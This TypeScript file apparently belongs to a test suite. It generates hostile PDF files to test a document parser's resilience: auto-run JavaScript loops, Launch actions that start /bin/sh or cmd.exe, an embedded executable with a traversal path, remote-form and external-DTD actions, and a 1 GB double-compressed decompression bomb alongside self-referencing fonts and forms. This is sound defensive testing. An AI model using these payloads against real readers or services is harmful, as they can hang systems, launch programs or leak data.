// PDF files whose pages, fonts and actions are hostile.
import { deflateSync } from 'node:zlib'
import { ofKind, PLAIN_WORDS, type HostileDocument } from './hostile-document.ts'
import { CATALOG, HELVETICA, onePage, page, pdf, stream, TEXT } from './pdf-file.ts'
import { brokenFont } from './pdf-structures.ts'
import { randomBytes } from './random-bytes.ts'

const content = (text: string | Buffer, entries = ''): Buffer =>
  pdf(onePage({ content: stream(text, entries) }))
const packed = (text: string) => content(deflateSync(Buffer.from(text)), '/Filter /FlateDecode')

const withCatalog = (entries: string, more: readonly (string | Buffer)[] = []): Buffer =>
  pdf(onePage({ catalog: CATALOG.replace(' >>', ` ${entries} >>`), more }))

/** A page that draws the object 6, and then its text. */
const drawing = (object: string | Buffer, ...more: (string | Buffer)[]): Buffer =>
  pdf(
    onePage({
      page: page('/XObject << /X0 6 0 R /X1 7 0 R >>'),
      content: stream(`/X0 Do ${TEXT}`),
      more: [object, ...more],
    }),
  )

const form = (text: string): Buffer =>
  stream(
    text,
    '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X0 6 0 R /X1 7 0 R >> >>',
  )

const picture = (entries: string): Buffer =>
  drawing(
    stream(
      'x',
      `/Type /XObject /Subtype /Image /BitsPerComponent 8 /ColorSpace /DeviceRGB ${entries}`,
    ),
  )

/** Forms that each draw the next one ten times. */
const tenfoldForms = (): Buffer => {
  const names = Array.from({ length: 11 }, (_, at) => at)
  const forms = names.map((at) =>
    stream(
      at < 10 ? '/N Do '.repeat(10) : TEXT,
      `/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /Font << /F1 5 0 R >> /XObject << /N ${at + 7} 0 R >> >>`,
    ),
  )
  return pdf(
    onePage({ page: page('/XObject << /X0 6 0 R >>'), content: stream('/X0 Do'), more: forms }),
  )
}

/** A font whose letters are drawn with the font. */
const recursiveFont = (): Buffer =>
  pdf(
    onePage({
      font: '<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1 1] /FontMatrix [1 0 0 1 0 0] /FirstChar 65 /LastChar 122 /Widths [] /Encoding << /Differences [65 /a] >> /CharProcs << /a 6 0 R >> /Resources << /Font << /F1 5 0 R >> >> >>',
      more: [stream('BT /F1 12 Tf (AAAA) Tj ET')],
    }),
  )

/** The map from codes to letters of a font, which refers to itself. */
const mapOfItself = (): Buffer =>
  pdf(
    onePage({
      font: HELVETICA.replace(' >>', ' /ToUnicode 6 0 R >>'),
      more: [
        stream(
          `/Own usecmap 1 begincodespacerange <00> <FFFF> endcodespacerange 100 beginbfrange ${'<0000> <FFFF> <0000> '.repeat(100)} endbfrange`,
          '/Type /CMap /CMapName /Own /UseCMap 6 0 R',
        ),
      ],
    }),
  )

const actions = (address: string): HostileDocument[] =>
  ofKind('PDF action', [
    [
      'script.pdf',
      'runs JavaScript when it is opened',
      () =>
        withCatalog(
          '/OpenAction << /S /JavaScript /JS (app.launchURL("http://127.0.0.1/"); while (true) {}) >>',
        ),
      PLAIN_WORDS,
    ],
    [
      'launch.pdf',
      'starts a program when it is opened',
      () =>
        withCatalog(
          '/OpenAction << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> >>',
        ),
      PLAIN_WORDS,
    ],
    [
      'attachment.pdf',
      'holds a program as an attachment',
      () =>
        withCatalog('/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>', [
          '<< /Type /Filespec /F (../../a.exe) /EF << /F 7 0 R >> >>',
          stream('MZ'),
        ]),
      PLAIN_WORDS,
    ],
    [
      'remote.pdf',
      'opens another server and sends a form there',
      () =>
        withCatalog(
          `/OpenAction << /S /URI /URI (${address}/a) /Next << /S /SubmitForm /F (${address}/form) /Next << /S /GoToR /F << /FS /URL /F (${address}/a.pdf) >> >> >> >> /AcroForm << /XFA 6 0 R >>`,
          [stream(`<!DOCTYPE a SYSTEM "${address}/a.dtd"><template href="${address}/xfa"/>`)],
        ),
      PLAIN_WORDS,
    ],
    [
      'remote-stream.pdf',
      'has a text that stands in a file of another server',
      () => content('', `/F << /FS /URL /F (${address}/text) >> /FFilter /FlateDecode`),
    ],
  ])

const contents = (): HostileDocument[] =>
  ofKind('PDF page', [
    [
      'states.pdf',
      'saves the state of the page ten million times',
      () => packed('q '.repeat(10_000_000) + TEXT),
    ],
    [
      'letters.pdf',
      'writes 20 million letters in one place',
      () => packed(`BT /F1 12 Tf ${`(${'clay '.repeat(200)}) Tj `.repeat(20_000)} ET`),
    ],
    [
      'bomb.pdf',
      'has a page that unpacks to 1 GB',
      () => pdf(onePage({ content: stream(twice(), '/Filter [/FlateDecode /FlateDecode]') })),
    ],
    [
      'open-text.pdf',
      'begins a text, a comment and a picture that never end',
      () => content(`BT /F1 12 Tf (${'('.repeat(1_000_000)} % BI /W 9 /H 9 ID`),
    ],
    [
      'form-of-itself.pdf',
      'draws a part that draws itself',
      () => drawing(form('/X0 Do /X1 Do'), form('/X0 Do')),
      PLAIN_WORDS,
    ],
    ['forms.pdf', 'draws a part ten billion times', tenfoldForms],
    [
      'huge-picture.pdf',
      'has a picture of two billion by two billion points',
      () => picture('/Width 2147483647 /Height 2147483647'),
      PLAIN_WORDS,
    ],
    [
      'broken-pictures.pdf',
      'has a picture whose formats are all broken',
      () =>
        picture(
          '/Width -1 /Height 1e9 /Filter [/JPXDecode /DCTDecode /JBIG2Decode /CCITTFaxDecode] /SMask 6 0 R',
        ),
      PLAIN_WORDS,
    ],
    [
      'predictor.pdf',
      'has rows of two billion columns',
      () =>
        content(
          deflateSync(Buffer.from(TEXT)),
          '/Filter /FlateDecode /DecodeParms << /Predictor 15 /Columns 2147483647 /Colors 32 /BitsPerComponent 16 >>',
        ),
    ],
    [
      'truetype.pdf',
      'has a broken TrueType font',
      () =>
        brokenFont(
          Buffer.concat([Buffer.from('00010000ffff', 'hex'), randomBytes(1, 50_000)]),
          'TrueType',
          'FontFile2',
          '/Length1 99999999',
        ),
    ],
    [
      'cff.pdf',
      'has a broken font of compact form',
      () =>
        brokenFont(
          Buffer.concat([Buffer.from('01000404', 'hex'), randomBytes(2, 50_000)]),
          'Type1',
          'FontFile3',
          '/Subtype /Type1C',
        ),
    ],
    ['map-of-itself.pdf', 'has a map of letters that refers to itself', mapOfItself],
    ['recursive-font.pdf', 'has a font whose letters are drawn with itself', recursiveFont],
  ])

/** 1 GB of blanks, compressed twice. */
function twice(): Buffer {
  const once = deflateSync(Buffer.alloc(1024 * 1024 * 1024, ' '), { level: 1 })
  return deflateSync(once)
}

export const pdfContents = (address: string): HostileDocument[] => [
  ...actions(address),
  ...contents(),
]
